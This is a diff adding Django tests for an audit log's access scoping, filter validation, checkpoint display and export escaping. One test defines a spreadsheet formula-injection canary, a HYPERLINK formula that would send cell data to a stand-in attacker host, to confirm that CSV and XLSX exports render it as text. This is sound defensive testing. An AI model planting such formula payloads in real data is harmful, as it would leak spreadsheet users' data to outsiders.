@@ -5,13 +5,16 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 
 import openpyxl
+import pytest
+from django.utils import timezone
 
 from handover.audit.models import Event
 from handover.audit.services import event_record
 from handover.org.models import Role
-from tests.factories import EngagementFactory
+from tests.factories import EngagementFactory, PersonFactory, UserFactory
 
 
 def seed(world):
@@ -25,7 +28,8 @@ def seed(world):
         object_id="999",
         after={"name": "别家营业部"},
     )
-    event_record(actor=None, action="accounts.login.failed", object_type="accounts.user", object_id="x")
+    member = world.login_with(Role.OBSERVER)
+    event_record(actor=None, action="accounts.login.failed", obj=member)
     return other
 
 
@@ -69,3 +73,105 @@ def test_technical_group_cannot_read_the_trail(client, world):
     client.force_login(world.login_with(Role.TECH_GROUP))
     assert client.get("/audit/").status_code == 403
     assert client.get("/audit/export.csv").status_code == 403
+
+
+def test_auditor_sees_account_events_only_of_their_engagements_users(client, world):
+    """L5: an auditor of engagement A does not read B's logins and account changes."""
+    other = EngagementFactory()
+    stranger = UserFactory(username="b-engagement-login")
+    PersonFactory(engagement=other, user=stranger, name="乙方人员")
+    event_record(actor=stranger, action="accounts.login", obj=stranger)
+    event_record(actor=None, action="accounts.login.failed", obj=stranger)
+    mine = world.login_with(Role.OBSERVER, username="a-engagement-login")
+    event_record(actor=mine, action="accounts.login", obj=mine)
+    client.force_login(world.login_with(Role.AUDITOR))
+    page = client.get("/audit/").content.decode()
+    assert "a-engagement-login" in page
+    assert "b-engagement-login" not in page
+    api = client.get("/api/audit/events/", {"limit": 500}).json()
+    names = {row["actor_username"] for row in api["results"]}
+    assert "a-engagement-login" in names and "b-engagement-login" not in names
+    exported = b"".join(client.get("/audit/export.csv").streaming_content).decode()
+    assert "b-engagement-login" not in exported and str(stranger.pk) not in [
+        row[6].split(":")[-1] for row in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) if row
+    ]
+
+
+CANARY = '=HYPERLINK("http://evil.example/?"&B2,"open")'
+
+
+def test_formula_in_a_login_name_stays_text_in_both_exports(client, world):
+    """M5: the review's canary login name comes out as text, not a live formula or link."""
+    canary = UserFactory(username=CANARY)
+    event_record(actor=canary, action="accounts.login", engagement_id=world.engagement.pk, obj=canary)
+    event_record(
+        actor=None,
+        action="org.site.create",
+        engagement_id=world.engagement.pk,
+        object_type="org.site",
+        object_id="1",
+        after={"name": "@SUM(1+1)"},
+    )
+    client.force_login(world.login_with(Role.AUDITOR))
+    text = b"".join(client.get("/audit/export.csv").streaming_content).decode().lstrip("\ufeff")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + CANARY in cells
+    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in cells if not cell.lstrip("-").isdigit())
+    response = client.get("/audit/export.xlsx")
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+        names = archive.namelist()
+    assert "<f>" not in sheet and not any("hyperlink" in n.lower() or "rels/sheet1" in n for n in names)
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    actors = [row[2] for row in book.active.iter_rows(min_row=2, values_only=True)]
+    assert CANARY in actors
+
+
+BAD_FILTERS = [
+    ("since", "notadate"),
+    ("until", "2026-13-45"),
+    ("engagement", "abc"),
+    ("engagement", "1e5"),
+]
+
+
+@pytest.mark.parametrize(("name", "value"), BAD_FILTERS)
+def test_bad_filter_answers_400_naming_the_filter(client, world, name, value):
+    """L1: a bad date or id in the audit filters is the reader's mistake, answered as such, never a 500."""
+    client.force_login(world.login_with(Role.AUDITOR))
+    api = client.get("/api/audit/events/", {name: value})
+    assert api.status_code == 400 and api.json()["field"] == name
+    page = client.get("/audit/", {name: value})
+    assert page.status_code == 400
+    assert ("YYYY-MM-DD" if name != "engagement" else "仅限数字") in page.content.decode()
+    assert client.get("/audit/export.csv", {name: value}).status_code == 400
+    assert client.get("/audit/export.xlsx", {name: value}).status_code == 400
+    assert not Event.objects.filter(action__in=["audit.view", "audit.export"]).exists()
+
+
+def test_good_date_filters_still_work(client, world):
+    seed(world)
+    client.force_login(world.login_with(Role.AUDITOR))
+    today = timezone.localdate().isoformat()
+    assert client.get("/api/audit/events/", {"since": today, "until": today}).json()["count"] >= 1
+    assert (
+        client.get("/audit/", {"since": "2000-01-01", "engagement": str(world.engagement.pk)}).status_code
+        == 200
+    )
+
+
+def test_the_auditor_page_shows_the_chain_head_and_the_last_checkpoint(client, world, settings, tmp_path):
+    """M3: events after the last checkpoint are covered by the head the auditor can note down."""
+    from handover.audit import selectors, services
+
+    settings.HANDOVER_CHECKPOINT_KEY = tmp_path / "signer" / "checkpoint.key"
+    settings.HANDOVER_CHECKPOINT_DIR = tmp_path / "checkpoints"
+    seed(world)
+    client.force_login(world.login_with(Role.AUDITOR))
+    page = client.get("/audit/").content.decode()
+    seq, digest = selectors.chain_head()
+    assert digest in page and f"event {seq}" in page.replace("事件 ", "event ")
+    _, signed = services.checkpoint_write(actor=None)
+    page = client.get("/audit/").content.decode()
+    seq, digest = selectors.chain_head()
+    assert digest in page and str(signed) in page
